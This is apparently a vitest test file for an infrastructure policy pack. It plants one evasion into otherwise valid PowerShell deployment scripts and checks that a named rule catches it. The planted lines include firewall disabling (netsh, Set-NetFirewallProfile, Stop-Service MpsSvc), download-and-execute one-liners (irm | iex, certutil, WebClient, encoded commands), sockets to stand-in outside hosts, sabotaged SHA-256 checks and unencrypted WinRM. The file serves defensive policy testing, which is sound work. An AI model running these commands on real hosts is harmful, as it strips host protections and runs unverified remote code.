/**
 * Crafted scripts that try to walk around the policy pack: each is a real step script with one
 * planted change, sent as the step's remote command, and must be refused by the named rule (the
 * unchanged script passes every rule, so the planted change is what is caught). Abbreviated
 * parameters, aliases, splatting, module-qualified names and dynamic invocation are read as
 * Windows PowerShell 5.1 reads them.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { encodePowerShellCommand } from "../../components/host/bootstrap";
import { allViolations, loadRules } from "../../policy/rules";
import { prodConfig, stagingConfig } from "../support/fixtures/configs";
import { command, step } from "./util";

beforeAll(loadRules);

const TUNNEL = { type: "cloudflare:index/zeroTrustTunnelCloudflared:ZeroTrustTunnelCloudflared", urn: "urn:t", props: {} };
const tools = () => step("tools", prodConfig).create;
const health = () => step("health", prodConfig).create;
const firewall = () => step("firewall", stagingConfig).create;
/** The firewall step's delete script: it enables again the guide's rules it recorded. */
const firewallDelete = () => {
    const script = step("firewall", stagingConfig).delete;
    if (script === undefined) throw new Error("the firewall step has no delete script");
    return script;
};
/** The direct-mode health probe: a TcpClient to the app port on 127.0.0.1, then a TLS handshake. */
const tlsHealth = () => step("health", stagingConfig).create;
/** A step that ships Invoke-NovaNative (steps carry only the helpers they use). */
const service = () => step("service", prodConfig).create;
const CONNECT = "$client.Connect('127.0.0.1', $NovaHealthPort)";
const HELPER_CHECK = "  if ($hash -ne $Expected) {\n    Remove-Item -LiteralPath $Path -Force\n    throw ('SHA-256 mismatch for {0}: expected {1}, got {2}' -f $Url, $Expected, $hash)\n  }\n";
const replaced = (text: string, from: string, to: string) => {
    if (!text.includes(from)) throw new Error(`planted change does not apply: ${from}`);
    return text.replace(from, to);
};
const encoded = encodePowerShellCommand("Invoke-WebRequest -Uri 'https://example.net/x.exe' -OutFile 'C:\\x.exe'");

/** [label, script, tunnel-mode stack, rule that refuses it, a message it reports] */
const BYPASSES: [string, () => string, boolean, string, RegExp][] = [
    ["Set-NetFirewallRule -RemoteAddr Any (abbreviated parameter)", () => `${firewall()}Set-NetFirewallRule -Name $NovaRuleName -RemoteAddr Any\n`, false, "origin-firewall-cloudflare-only", /outside Cloudflare's ranges: Any/],
    ["Set-NetFirewallRule \u2013RemoteAddress Any (an en dash, which PowerShell reads as a dash)", () => `${firewall()}Set-NetFirewallRule -Name $NovaRuleName \u2013RemoteAddress Any\n`, false, "origin-firewall-cloudflare-only", /outside Cloudflare's ranges: Any/],
    ["Set-NetFirewallRule on a rule that is not ours", () => `${firewall()}Set-NetFirewallRule -Name 'RemoteDesktop-UserMode-In-TCP' -Enabled True\n`, false, "origin-firewall-cloudflare-only", /changes a rule that is not ours/],
    ["Get-NetFirewallRule | Set-NetFirewallRule -RemoteAddress Any", () => `${firewall()}Get-NetFirewallRule | Set-NetFirewallRule -RemoteAddress Any\n`, false, "origin-firewall-cloudflare-only", /not ours/],
    ["parameters bound from the pipeline by property name", () => `${firewall()}[pscustomobject]@{ RemoteAddress = 'Any' } | Set-NetFirewallRule -Name $NovaRuleName\n`, false, "origin-firewall-cloudflare-only", /Set-NetFirewallRule takes pipeline input/],
    ["Set-NetFirewallAddressFilter", () => `${firewall()}Get-NovaRule | Get-NetFirewallAddressFilter | Set-NetFirewallAddressFilter -RemoteAddress Any\n`, false, "origin-firewall-cloudflare-only", /Set-NetFirewallAddressFilter changes the firewall outside our rule shapes/],
    ["Set-NetFirewallProfile -Enabled False", () => `${firewall()}Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False\n`, false, "origin-firewall-cloudflare-only", /Set-NetFirewallProfile changes the firewall/],
    ["NetSecurity\\Set-NetFirewallProfile (module-qualified)", () => `${firewall()}NetSecurity\\Set-NetFirewallProfile -All -Enabled False\n`, false, "origin-firewall-cloudflare-only", /Set-NetFirewallProfile changes the firewall/],
    ["Disable-NetFirewallRule", () => `${firewall()}Disable-NetFirewallRule -DisplayGroup 'Windows Defender Firewall Remote Management'\n`, false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["netsh advfirewall set allprofiles state off", () => `${firewall()}netsh advfirewall set allprofiles state off\n`, false, "origin-firewall-cloudflare-only", /changed with netsh\.exe/],
    ["Remove-NetFirewallRule of others' rules (by group)", () => `${firewall()}Remove-NetFirewallRule -Group 'Remote Desktop'\n`, false, "origin-firewall-cloudflare-only", /not provably ours/],
    ["Remove-NetFirewallRule of others' rules (through the pipeline)", () => `${firewall()}Get-NetFirewallRule -DisplayGroup 'Core Networking' | Remove-NetFirewallRule\n`, false, "origin-firewall-cloudflare-only", /not provably ours/],
    ["$NovaCidrs widened with += before the rule", () => replaced(firewall(), "function ConvertTo-NovaHex", "$NovaCidrs += '0.0.0.0/0'\nfunction ConvertTo-NovaHex"), false, "origin-firewall-cloudflare-only", /cannot verify the firewall rule's remote addresses: -RemoteAddress \$NovaCidrs/],
    ["the firewall's registry key", () => `${firewall()}Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\PublicProfile' -Name EnableFirewall -Value 0\n`, false, "origin-firewall-cloudflare-only", /registry keys are written/],
    ["Stop-Service MpsSvc", () => `${firewall()}Stop-Service -Name 'MpsSvc' -Force\n`, false, "origin-firewall-cloudflare-only", /firewall service is stopped/],
    ["an inbound rule in tunnel mode, our shape", () => step("firewall", stagingConfig).create, true, "origin-firewall-cloudflare-only", /tunnel mode: a script creates an inbound firewall rule/],
    ["irm | iex", () => `${health()}irm 'https://example.net/i.ps1' | iex\n`, false, "downloads-pinned-sha256", /a download \(irm = Invoke-RestMethod\)/],
    ["irm | iex (the execution)", () => `${health()}irm 'https://example.net/i.ps1' | iex\n`, false, "host-script-allow-list", /runs iex \(Invoke-Expression\)/],
    ["certutil -urlcache", () => `${health()}certutil -urlcache -split -f 'https://example.net/x.exe' 'C:\\x.exe'\n`, false, "downloads-pinned-sha256", /a download \(certutil\)/],
    ["HttpClient", () => `${health()}$c = New-Object System.Net.Http.HttpClient\n$c.GetStringAsync('https://example.net/x').Result | Out-Null\n`, false, "downloads-pinned-sha256", /\.NET System\.Net\.Http\.HttpClient/],
    ["[Net.WebClient]::new()", () => `${health()}[Net.WebClient]::new().DownloadFile('https://example.net/x.exe', 'C:\\x.exe')\n`, false, "downloads-pinned-sha256", /\.NET Net\.WebClient/],
    ["New-Object Net.WebClient", () => `${health()}(New-Object Net.WebClient).DownloadFile('https://example.net/x.exe', 'C:\\x.exe')\n`, false, "host-script-allow-list", /uses the \.NET type Net\.WebClient/],
    ["a download by splatting", () => `${health()}$p = @{ Uri = 'https://example.net/x.exe'; OutFile = 'C:\\x.exe' }\nInvoke-WebRequest @p\n`, false, "downloads-pinned-sha256", /a download \(Invoke-WebRequest\)/],
    ["splatting hides the parameters", () => `${health()}$p = @{ Uri = 'https://example.net/x.exe'; OutFile = 'C:\\x.exe' }\nInvoke-WebRequest @p\n`, false, "host-script-allow-list", /splats arguments into Invoke-WebRequest \(@p\)/],
    ["iwr -OutF (alias and prefix)", () => `${health()}iwr -Uri 'https://example.net/x.exe' -OutF 'C:\\x.exe'\n`, false, "downloads-pinned-sha256", /a download \(iwr = Invoke-WebRequest\)/],
    ["curl (an alias of Invoke-WebRequest on 5.1)", () => `${health()}curl -Uri 'https://example.net/x.exe' -OutFile 'C:\\x.exe'\n`, false, "downloads-pinned-sha256", /a download \(curl = Invoke-WebRequest\)/],
    ["wget", () => `${health()}wget 'https://example.net/x.exe' -OutFile 'C:\\x.exe'\n`, false, "downloads-pinned-sha256", /a download \(wget = Invoke-WebRequest\)/],
    ["a probe that is not the host itself", () => `${health()}Invoke-WebRequest -UseBasicParsing -Uri 'https://example.net/beacon'\n`, false, "downloads-pinned-sha256", /a download \(Invoke-WebRequest\)/],
    ["a loopback-looking URL whose host a variable can move", () => `${health()}$h = Get-Content 'C:\\h.txt'\nInvoke-WebRequest -UseBasicParsing -Uri ('http://127.0.0.1:' + $h + '/x')\n`, false, "downloads-pinned-sha256", /a download \(Invoke-WebRequest\)/],
    ["a loopback probe that saves a file", () => `${health()}Invoke-WebRequest -Uri 'http://127.0.0.1:8000/x' -OutFile 'C:\\x.exe'\n`, false, "downloads-pinned-sha256", /a download \(Invoke-WebRequest\)/],
    ["Start-BitsTransfer", () => `${health()}Start-BitsTransfer -Source 'https://example.net/x.exe' -Destination 'C:\\x.exe'\n`, false, "downloads-pinned-sha256", /a download \(Start-BitsTransfer\)/],
    ["& (gcm iwr)", () => `${health()}& (gcm iwr) -Uri 'https://example.net/x.exe' -OutFile 'C:\\x.exe'\n`, false, "host-script-allow-list", /runs a command only known at run time: & \(gcm iwr\)/],
    ["-EncodedCommand nested", () => `${health()}powershell.exe -NoProfile -EncodedCommand ${encoded}\n`, false, "host-script-allow-list", /runs powershell\.exe, which is not one of the allowed programs/],
    ["Invoke-NovaNative with another program", () => `${service()}Invoke-NovaNative 'cmd.exe' @('/c', 'curl -o C:\\x.exe https://example.net/x.exe')\n`, false, "host-script-allow-list", /Invoke-NovaNative runs cmd\.exe/],
    ["Start-Process", () => `${health()}Start-Process -FilePath 'C:\\x.exe'\n`, false, "host-script-allow-list", /runs Start-Process/],
    ["[scriptblock]::Create", () => `${health()}& ([scriptblock]::Create('Write-Output 1'))\n`, false, "host-script-allow-list", /uses the \.NET type scriptblock/],
    ["$ExecutionContext.InvokeCommand.InvokeScript", () => `${health()}$ExecutionContext.InvokeCommand.InvokeScript('Write-Output 1') | Out-Null\n`, false, "host-script-allow-list", /uses \$ExecutionContext\.InvokeCommand/],
    ["a function shadowing New-NetFirewallRule", () => `${firewall()}function New-NetFirewallRule { param($Name) }\n`, false, "host-script-allow-list", /defines a function New-NetFirewallRule, which shadows a command/],
    ["an alias that renames a downloader", () => `${health()}Set-Alias -Name fetch -Value Invoke-WebRequest\nfetch 'https://example.net/x'\n`, false, "host-script-allow-list", /runs Set-Alias/],
    ["New-Object with a computed type name", () => `${health()}$t = 'Net.Web' + 'Client'\n$c = New-Object -TypeName $t\n`, false, "host-script-allow-list", /creates an object whose type is only known at run time/],
    ["a raw socket", () => `${health()}$c = New-Object System.Net.Sockets.TcpClient('example.net', 80)\n`, false, "host-script-allow-list", /uses the \.NET type System\.Net\.Sockets\.TcpClient/],
    ["TcpClient.Connect to a non-loopback address", () => replaced(tlsHealth(), CONNECT, "$client.Connect('203.0.113.7', $NovaHealthPort)"), false, "host-script-allow-list", /opens a connection with \.Connect\('203\.0\.113\.7', \$NovaHealthPort\): a socket may only connect to a loopback literal/],
    ["TcpClient.Connect to a name that resolves anywhere", () => replaced(tlsHealth(), CONNECT, "$client.Connect('example.net', 443)"), false, "host-script-allow-list", /opens a connection with \.Connect\('example\.net', 443\)/],
    ["TcpClient.Connect to a host held in a variable", () => replaced(tlsHealth(), CONNECT, "$client.Connect($NovaHealthHost, $NovaHealthPort)"), false, "host-script-allow-list", /opens a connection with \.Connect\(\$NovaHealthHost, \$NovaHealthPort\)/],
    ["TcpClient.Connect to a computed port", () => replaced(tlsHealth(), CONNECT, "$client.Connect('127.0.0.1', (Get-Content 'C:\\p.txt'))"), false, "host-script-allow-list", /opens a connection with \.Connect\('127\.0\.0\.1', \(Get-Content/],
    ["TcpClient's port variable rewritten after the probe is defined", () => `${tlsHealth()}$NovaHealthPort = 22\n`, false, "host-script-allow-list", /opens a connection with \.Connect\('127\.0\.0\.1', \$NovaHealthPort\)/],
    ["TcpClient's raw Socket connecting elsewhere", () => replaced(tlsHealth(), CONNECT, "$client.Client.Connect('203.0.113.7', 443)"), false, "host-script-allow-list", /opens a connection with \.Connect\('203\.0\.113\.7', 443\)/],
    ["Connect named through a string", () => replaced(tlsHealth(), CONNECT, "$client.'Connect'('203.0.113.7', 443)"), false, "host-script-allow-list", /opens a connection with \.Connect\('203\.0\.113\.7', 443\)/],
    ["a member name computed at run time", () => replaced(tlsHealth(), CONNECT, "$client.('Con' + 'nect')('203.0.113.7', 443)"), false, "host-script-allow-list", /uses a member whose name is only known at run time/],
    ["Connect through ForEach-Object -MemberName", () => replaced(tlsHealth(), CONNECT, "$client | ForEach-Object Connect '203.0.113.7' 443"), false, "host-script-allow-list", /calls \.Connect through ForEach-Object -MemberName/],
    ["TcpClient from a type literal", () => `${tlsHealth()}$c = [System.Net.Sockets.TcpClient]::new('203.0.113.7', 443)\n`, false, "host-script-allow-list", /uses the \.NET type System\.Net\.Sockets\.TcpClient in a type literal/],
    ["TcpClient with -ArgumentList", () => `${tlsHealth()}$c = New-Object -TypeName System.Net.Sockets.TcpClient -ArgumentList '203.0.113.7', 443\n`, false, "host-script-allow-list", /uses the \.NET type System\.Net\.Sockets\.TcpClient with constructor arguments/],
    ["$ExecutionContext.'InvokeCommand' (a quoted member name)", () => `${health()}$ExecutionContext.'InvokeCommand'.NewScriptBlock('Write-Output 1') | Out-Null\n`, false, "host-script-allow-list", /uses \$ExecutionContext\.InvokeCommand/],
    ["a refused member named through a string", () => `${health()}$ExecutionContext.'InvokeCommand'.'InvokeScript'('Write-Output 1') | Out-Null\n`, false, "host-script-allow-list", /calls \.InvokeScript, which reaches code/],
    ["COM firewall policy", () => `${health()}$fw = New-Object -ComObject HNetCfg.FwPolicy2\n`, false, "host-script-allow-list", /creates a COM object/],
    ["dead hash check: compared, never thrown on", () => replaced(tools(), HELPER_CHECK, "  if ($hash -ne $Expected) { Write-Warning 'SHA-256 mismatch' }\n"), false, "downloads-pinned-sha256", /does not check the file's SHA-256 against -Expected/],
    ["dead hash check: computed, not compared", () => replaced(tools(), HELPER_CHECK, "  if ($hash -ne $hash) { throw 'mismatch' }\n"), false, "downloads-pinned-sha256", /does not check the file's SHA-256/],
    ["dead hash check: the check sits in a branch that never runs", () => replaced(tools(), HELPER_CHECK, `  if ($false) {\n${HELPER_CHECK}  }\n`), false, "downloads-pinned-sha256", /does not check the file's SHA-256/],
    ["dead hash check: hash of another file", () => replaced(tools(), "  $hash = Get-NovaFileHash $Path\n", "  $hash = Get-NovaFileHash $Url\n"), false, "downloads-pinned-sha256", /does not check the file's SHA-256/],
    ["dead hash check: $Expected overwritten with the file's hash", () => replaced(tools(), "  $hash = Get-NovaFileHash $Path\n", "  $hash = Get-NovaFileHash $Path\n  $Expected = $hash\n"), false, "downloads-pinned-sha256", /assigns its parameter \$Expected/],
    ["dead hash check: a return before the check", () => replaced(tools(), "  $hash = Get-NovaFileHash $Path\n", "  return\n  $hash = Get-NovaFileHash $Path\n"), false, "downloads-pinned-sha256", /has a return that can skip its SHA-256 check/],
    ["dead hash check: Get-NovaFileHash returns something else", () => replaced(tools(), "  return (Get-FileHash -Algorithm SHA256 -LiteralPath $Path).Hash.ToLowerInvariant()", "  $null = (Get-FileHash -Algorithm SHA256 -LiteralPath $Path)\n  return $Expected"), false, "downloads-pinned-sha256", /Get-NovaFileHash does not return Get-FileHash -Algorithm SHA256 of its file/],
    ["dead hash check: a break that leaves the helper", () => replaced(tools(), "  $hash = Get-NovaFileHash $Path\n", "  break\n  $hash = Get-NovaFileHash $Path\n"), false, "downloads-pinned-sha256", /has a break that can skip its SHA-256 check/],
    ["trap swallows the mismatch", () => `trap { continue }\n${tools()}`, false, "host-script-allow-list", /uses trap/],
    ["a pin passed by prefix that is not 64 hex", () => replaced(tools(), "Save-NovaVerifiedDownload -Url $NovaNssmUrl -Expected $desired -Path $zip", "Save-NovaVerifiedDownload -U $NovaNssmUrl -Exp 'abc' -Pa $zip"), false, "downloads-pinned-sha256", /not pinned with a 64-hex SHA-256 \(-Expected 'abc'\)/],
    ["WSMan AllowUnencrypted", () => `${health()}Set-Item -Path 'WSMan:\\localhost\\Service\\AllowUnencrypted' -Value $true\n`, false, "winrm-https-only", /opens WinRM to plain HTTP/],
    ["Disable-NetFirewallRule of an arbitrary rule by -Name", () => `${firewall()}Disable-NetFirewallRule -Name 'RemoteDesktop-UserMode-In-TCP'\n`, false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["the guide-rule selection widened with -or $true", () => replaced(firewall(), "StartsWith($NovaGuidePrefix)) }", "StartsWith($NovaGuidePrefix)) -or $true }"), false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["the guide's display name swapped for another rule's", () => replaced(firewall(), "$NovaGuideRule = 'NOVA Backend'", "$NovaGuideRule = 'Remote Desktop - User Mode (TCP-In)'"), false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["the guide's rules disabled without recording them first", () => replaced(firewall(), "  Set-ItemProperty -LiteralPath $NovaStateKey -Name 'GuideFirewallRules' -Type MultiString -Value ([string[]]@(@($recorded) + $names | Sort-Object -Unique))\n", ""), false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["a name appended to the guide's rules before they are disabled", () => replaced(firewall(), "  foreach ($name in $names) { Disable-NetFirewallRule", "  $names += 'RemoteDesktop-UserMode-In-TCP'\n  foreach ($name in $names) { Disable-NetFirewallRule"), false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["a second statement in the guide-rule filter (its output is then an array, always true)", () => replaced(firewall(), "StartsWith($NovaGuidePrefix)) }", "StartsWith($NovaGuidePrefix)); $true }"), false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["the guide-rule filter piped into ForEach-Object { $true }", () => replaced(firewall(), "StartsWith($NovaGuidePrefix)) }", "StartsWith($NovaGuidePrefix)) | ForEach-Object { $true } }"), false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["the guide's display name assigned again after the functions, before the checks run", () => replaced(firewall(), "function Get-NovaRule {", "$NovaGuideRule = 'Remote Desktop - User Mode (TCP-In)'\nfunction Get-NovaRule {"), false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["the guide's display name shadowed by a parameter of the selection", () => replaced(firewall(), "function Get-NovaGuideRules([string]$Port) {", "function Get-NovaGuideRules([string]$Port, [string]$NovaGuideRule = 'Remote Desktop - User Mode (TCP-In)') {"), false, "origin-firewall-cloudflare-only", /Disable-NetFirewallRule disables rules that are not provably the guide's/],
    ["Enable-NetFirewallRule of a rule we did not record", () => `${firewall()}Enable-NetFirewallRule -Name 'RemoteDesktop-UserMode-In-TCP'\n`, false, "origin-firewall-cloudflare-only", /Enable-NetFirewallRule enables rules we did not record/],
    ["Enable-NetFirewallRule over another value of our state key", () => `${firewall()}foreach ($n in @((Get-Item -LiteralPath 'HKLM:\\SOFTWARE\\nova-infra\\staging').GetValue('Other', @()))) { Enable-NetFirewallRule -Name $n }\n`, false, "origin-firewall-cloudflare-only", /Enable-NetFirewallRule enables rules we did not record/],
    ["Enable-NetFirewallRule over names read from a key that is not ours", () => `${firewall()}foreach ($n in @((Get-Item -LiteralPath 'HKLM:\\SOFTWARE\\Other').GetValue('GuideFirewallRules', @()))) { Enable-NetFirewallRule -Name $n }\n`, false, "origin-firewall-cloudflare-only", /Enable-NetFirewallRule enables rules we did not record/],
    ["an arbitrary rule name added to the recorded guide rules with New-ItemProperty", () => `${firewall()}New-ItemProperty -Path 'HKLM:\\SOFTWARE\\nova-infra\\staging' -Name 'GuideFirewallRules' -PropertyType MultiString -Value @('RemoteDesktop-UserMode-In-TCP') -Force\n`, false, "origin-firewall-cloudflare-only", /writes GuideFirewallRules outside our recording shape/],
    ["Where-Object rewriting the rules between our group and Remove-NetFirewallRule", () => `${firewall()}Get-NetFirewallRule -Group $NovaGroup | ? { $_.Name = 'RemoteDesktop-UserMode-In-TCP'; $true } | Remove-NetFirewallRule\n`, false, "origin-firewall-cloudflare-only", /not provably ours/],
    ["Select-Object making up a rule name between our group and Remove-NetFirewallRule", () => `${firewall()}Get-NetFirewallRule -Group $NovaGroup | Select-Object @{ n = 'Name'; e = { 'RemoteDesktop-UserMode-In-TCP' } } | Remove-NetFirewallRule\n`, false, "origin-firewall-cloudflare-only", /not provably ours/],
    ["an arbitrary rule name written into the recorded guide rules", () => `${firewall()}Set-ItemProperty -LiteralPath 'HKLM:\\SOFTWARE\\nova-infra\\staging' -Name 'GuideFirewallRules' -Type MultiString -Value @('RemoteDesktop-UserMode-In-TCP')\n`, false, "origin-firewall-cloudflare-only", /writes GuideFirewallRules outside our recording shape/],
    ["the recorded guide rules written under a computed value name", () => `${firewall()}$v = 'Guide' + 'FirewallRules'\nSet-ItemProperty -LiteralPath $NovaStateKey -Name $v -Value @('RemoteDesktop-UserMode-In-TCP')\n`, false, "origin-firewall-cloudflare-only", /whose name cannot be read/],
    ["Remove-NetFirewallRule of a group that only looks like ours (a wildcard)", () => `${firewall()}Remove-NetFirewallRule -Group 'NOVA (nova-infra *)'\n`, false, "origin-firewall-cloudflare-only", /not provably ours/],
    ["Get-NetFirewallRule of a group that only looks like ours, piped to Remove-NetFirewallRule", () => `${firewall()}Get-NetFirewallRule -Group 'NOVA (nova-infra staging) ' | Remove-NetFirewallRule\n`, false, "origin-firewall-cloudflare-only", /not provably ours/],
    ["a stale-rule function that also returns a rule outside our groups", () => replaced(firewall(), "  return $rules\n}\nfunction Get-NovaGroupRuleNames", "  $rules += @(Get-NetFirewallRule -Name 'RemoteDesktop-UserMode-In-TCP')\n  return $rules\n}\nfunction Get-NovaGroupRuleNames"), false, "origin-firewall-cloudflare-only", /not provably ours/],
];

describe("crafted bypasses are refused", () => {
    it("the unchanged scripts pass every rule", () => {
        expect(firewallDelete()).toContain("Enable-NetFirewallRule -Name $name");
        for (const script of [tools(), health(), firewall(), firewallDelete(), tlsHealth()]) {
            expect(allViolations([{ type: "command:remote:Command", urn: "urn:c", props: command(script) }])).toEqual([]);
        }
    });

    it(`lists ${BYPASSES.length} bypasses`, () => {
        expect(BYPASSES.length).toBeGreaterThanOrEqual(22);
    });

    it.each(BYPASSES)("%s", (_label, script, tunnel, rule, message) => {
        const resource = { type: "command:remote:Command", urn: "urn:c", props: command(script()) };
        const found = allViolations([...(tunnel ? [TUNNEL] : []), resource]);
        expect(found.filter((v) => v.rule === rule).map((v) => v.message)).toContainEqual(expect.stringMatching(message));
    });
});
